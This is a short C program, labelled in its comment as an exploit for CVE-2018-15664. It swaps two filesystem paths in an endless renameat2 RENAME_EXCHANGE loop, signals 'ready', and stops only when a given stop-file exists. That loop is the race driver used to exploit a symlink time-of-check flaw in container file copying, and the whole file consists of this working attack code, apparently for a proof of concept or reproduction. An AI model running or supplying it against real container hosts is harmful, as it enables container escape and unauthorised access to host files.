/* CVE-2018-15664: exchanges its two arguments without end, by renameat2(2). With a third, until that file exists. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv) {
	if (argc < 3 || renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) return 1;
	puts("ready");
	fflush(stdout);
	long swaps = 1;
	while (argc < 4 || access(argv[3], F_OK) != 0) swaps += renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0;
	printf("%ld swaps\n", swaps);
	return 0;
}
